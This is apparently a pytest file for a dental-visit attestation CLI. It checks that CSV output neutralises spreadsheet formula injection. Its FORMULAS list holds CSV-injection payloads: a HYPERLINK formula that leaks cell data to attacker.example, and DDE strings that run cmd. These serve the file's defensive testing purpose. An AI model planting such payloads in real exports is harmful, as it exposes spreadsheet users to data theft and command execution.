"""CSV injection: cells of a file we write never open as spreadsheet formulas.

`dentareview visit attest --out` echoes each line's patient cell as the practice wrote
it; a hostile or mistaken cell (=HYPERLINK, a DDE `+cmd|...`) comes out escaped with a
leading `'` and quoted, while addresses, times and links come out unchanged."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from dentareview.domain.spreadsheet import write_csv
from tests.api.system import new_wallet
from tests.cli.test_visit_attest import run
from tests.web.conftest import WebSystem, web_system

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",  # after a quote, as OWASP warns
    '"=1+1',
]


@pytest.fixture(scope="module")
def system(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebSystem]:
    with web_system(tmp_path_factory.mktemp("csv-injection")) as running:
        yield running


def test_attest_output_escapes_formula_cells(system: WebSystem, tmp_path: Path) -> None:
    dentist, patient = system.new_dentist("Quay Dental"), new_wallet()
    visits = io.StringIO()
    lines = [[patient.address, str(int(time.time()) - 60)], *[[f, "2026-11-02"] for f in FORMULAS]]
    csv.writer(visits).writerows([["patient", "visited_at"], *lines])
    source = tmp_path / "visits.csv"
    source.write_text(visits.getvalue(), encoding="utf-8")
    out = tmp_path / "links.csv"
    done = run(
        ["--csv", str(source), "--out", str(out), "--key-env", "KEY", "--api-url", system.url],
        KEY="0x" + bytes(dentist.key).hex(),
    )
    assert done.returncode == 1, done.stderr  # the formula lines are not visits
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["patient"] == patient.address and rows[0]["result"] == "recorded"
    assert rows[0]["invitation_link"].endswith(rows[0]["visit_id"])
    assert [row["patient"] for row in rows[1:]] == ["'" + f for f in FORMULAS]
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
    record = text.splitlines()[2]  # the escaped cell is quoted, so nothing can split it
    assert record.split(",")[1].startswith("\"'=HYPERLINK("), record


def test_numbers_stay_numbers_and_text_is_escaped() -> None:
    out = io.StringIO()
    write_csv(out, [["-3.5", -3.5, 0, None, "", "\t=1", " @x", "0x12,3", "month"]])
    assert out.getvalue() == '"\'-3.5",-3.5,0,,,"\'\t=1","\' @x","0x12,3",month\n'
    assert next(csv.reader(io.StringIO(out.getvalue())))[1] == "-3.5"
